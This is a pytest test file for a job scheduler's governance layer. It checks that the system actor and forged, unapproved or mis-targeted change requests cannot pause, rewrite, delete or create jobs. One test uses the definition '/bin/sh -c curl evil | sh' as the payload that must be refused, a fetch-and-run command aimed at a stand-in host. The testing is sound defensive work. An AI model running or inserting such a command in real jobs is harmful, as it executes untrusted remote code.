"""Who acts: the explicit system actor, and the approved change request as the only authority that
lets change control write a job without the operator's role."""

import pickle

import pytest

from approvals.models import ChangeRequest, ChangeStatus
from governance.access import Action, can, restrict
from governance.actors import SYSTEM
from governance.models import AuditEvent, Role, ScopeUserRole
from governance.services import AccessDenied, grant_role, revoke_role
from jobs import services as job_services
from jobs.models import Job, JobStatus


def _request(cast, target, *, action, status=ChangeStatus.APPROVED, **fields):
    """A change request row as change control stores it (``fields`` override the job's placement)."""
    placement = {"tenant": target.tenant, "team": target.team, "environment": target.environment, "job": target}
    placement.update(fields)
    author = cast.globex_author if placement["tenant"] == cast.globex else cast.author
    return ChangeRequest.objects.create(
        action=action, status=status, author=author, justification="attack", proposed={}, **placement
    )


@pytest.mark.parametrize("service", [grant_role, revoke_role])
def test_a_governance_service_without_an_actor_is_refused_not_run_as_the_system(cast, service):
    before = AuditEvent.objects.count()
    with pytest.raises(TypeError):
        service(cast.viewer, Role.TENANT_ADMIN, tenant=cast.acme, actor=None)
    with pytest.raises(TypeError):
        service(cast.viewer, Role.TENANT_ADMIN, tenant=cast.acme)
    assert not can(cast.viewer, Action.ADMINISTER, cast.acme.environments.first() or cast.dev)
    assert AuditEvent.objects.count() == before


def test_an_anonymous_actor_does_not_stand_for_the_system(cast):
    from django.contrib.auth.models import AnonymousUser

    with pytest.raises(TypeError):
        grant_role(cast.viewer, Role.TENANT_ADMIN, tenant=cast.acme, actor=AnonymousUser())
    assert not ScopeUserRole.objects.filter(user=cast.viewer, permission__codename="role_tenant_admin").exists()


def test_the_system_grants_roles_and_the_audit_trail_names_it_system(cast):
    grant_role(cast.outsider, Role.VIEWER, tenant=cast.globex, actor=SYSTEM)
    event = AuditEvent.objects.filter(action="role.granted").latest("id")
    assert event.actor is None and event.actor_repr == "system"
    assert event.data == {"user": "nobody", "role": "viewer"}


def test_the_system_actor_passes_no_access_check(cast):
    job = cast.make_job(cast.dev)
    for action in Action:
        assert not can(SYSTEM, action, job)
    assert not restrict(Job.objects.all(), SYSTEM, Action.VIEW).exists()
    assert pickle.loads(pickle.dumps(SYSTEM)) is SYSTEM
    assert str(SYSTEM) == "system"


def test_the_system_cannot_pause_a_job_without_an_approved_request(cast):
    job = cast.make_job(cast.dev)
    with pytest.raises(AccessDenied):
        job_services.set_paused(job, actor=SYSTEM, paused=True, reason="no authority")
    assert Job.objects.get(pk=job.pk).status == JobStatus.ENABLED


@pytest.mark.parametrize(
    "forgery",
    [
        "submitted",
        "approved_in_memory_only",
        "approved_for_another_job_retargeted_in_memory",
        "resume_for_a_pause",
        "another_job",
        "another_tenant",
        "unsaved",
    ],
)
def test_a_forged_or_unapproved_change_request_does_not_pause_a_job(cast, forgery):
    job = cast.make_job(cast.prod)
    other = cast.make_job(cast.prod, name="payments.ledger.other")
    if forgery == "submitted":
        authority = _request(cast, job, action="pause", status=ChangeStatus.SUBMITTED)
    elif forgery == "approved_in_memory_only":
        authority = _request(cast, job, action="pause", status=ChangeStatus.SUBMITTED)
        authority.status = ChangeStatus.APPROVED
    elif forgery == "approved_for_another_job_retargeted_in_memory":
        authority = _request(cast, other, action="pause")
        authority.job_id = job.pk
    elif forgery == "resume_for_a_pause":
        authority = _request(cast, job, action="resume")
    elif forgery == "another_job":
        authority = _request(cast, other, action="pause")
    elif forgery == "another_tenant":
        globex_job = cast.make_job(cast.globex_prod)
        authority = _request(cast, globex_job, action="pause")
        authority.job_id = job.pk  # names the victim, but belongs to globex
    else:
        authority = ChangeRequest(tenant=cast.acme, team=job.team, environment=job.environment, job=job, action="pause")
        authority.status = ChangeStatus.APPROVED
    with pytest.raises(AccessDenied):
        job_services.set_paused(job, actor=cast.viewer, paused=True, reason="forged", authority=authority)
    assert Job.objects.get(pk=job.pk).status == JobStatus.ENABLED


def test_an_approved_pause_request_of_this_job_is_its_authority(cast):
    job = cast.make_job(cast.prod)
    authority = _request(cast, job, action="pause")
    job_services.set_paused(job, actor=SYSTEM, paused=True, reason="approved", authority=authority)
    job = Job.objects.get(pk=job.pk)
    assert job.status == JobStatus.PAUSED
    record = job.history.first()
    assert record.history_user is None
    assert record.history_change_reason == f"paused through change request #{authority.pk}: approved"


def test_an_approved_request_for_another_job_or_tenant_does_not_rewrite_or_delete_a_job(cast):
    job = cast.make_job(cast.prod)
    other = cast.make_job(cast.prod, name="payments.ledger.other")
    globex_job = cast.make_job(cast.globex_prod)
    for authority in (_request(cast, other, action="update"), _request(cast, globex_job, action="update")):
        with pytest.raises(AccessDenied):
            job_services.apply_definition(
                actor=SYSTEM,
                authority=authority,
                team=job.team,
                environment=job.environment,
                definition={"command": ["/bin/sh", "-c", "curl evil | sh"]},
                job=job,
            )
    for authority in (_request(cast, other, action="delete"), _request(cast, job, action="update")):
        with pytest.raises(AccessDenied):
            job_services.delete_job(actor=SYSTEM, job=job, authority=authority)
    job.refresh_from_db()
    assert job.command == ["/bin/echo", "hello"] and job.status == JobStatus.ENABLED and job.version == 1


def test_an_approved_create_in_another_team_does_not_create_a_job_here(cast):
    authority = _request(cast, cast.make_job(cast.dev), action="create", job=None, team=cast.data)
    with pytest.raises(AccessDenied):
        job_services.apply_definition(
            actor=SYSTEM,
            authority=authority,
            team=cast.payments,
            environment=cast.dev,
            definition=cast.definition(name="payments.smuggled"),
        )
    assert not Job.objects.filter(name="payments.smuggled").exists()
